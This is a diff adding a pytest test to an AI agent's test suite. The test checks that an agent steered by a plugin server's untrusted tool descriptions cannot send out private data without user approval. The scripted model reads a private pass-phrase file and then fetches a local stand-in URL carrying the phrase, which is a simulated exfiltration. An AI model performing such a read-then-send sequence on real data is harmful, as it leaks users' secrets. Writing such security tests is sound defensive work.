@@ -487,3 +487,24 @@ async def test_a_server_of_the_newer_era_tells_of_new_tools(tmp_path: Path) -> N
         listing = servers.listing("g")
         assert listing is not None
         assert listing.protocol == "2026-07-28"
+
+
+@pytest.mark.parametrize("is_own", [True, False])
+async def test_what_a_plugins_server_says_of_its_tools_is_a_strangers_word(
+    tmp_path: Path, is_own: bool
+) -> None:
+    """Its descriptions reach the model without a call: private things then leave by a yes only."""
+    asked = Asked()
+    (tmp_path / "w").mkdir()
+    (tmp_path / "w" / "private.md").write_text("the pass phrase\n")
+    model = ScriptedProvider(
+        [
+            calls(call("read_file", path="private.md")),
+            calls(call("web_fetch", "c2", url="http://127.0.0.1:9/?q=phrase")),
+            "done",
+        ]
+    )
+    agent = agent_with(tmp_path, model, stand_in(is_own=is_own), approve=asked, mode="auto")
+    async with agent:
+        await agent.run("go")
+    assert [request.tool for request in asked.requests] == ([] if is_own else ["web_fetch"])
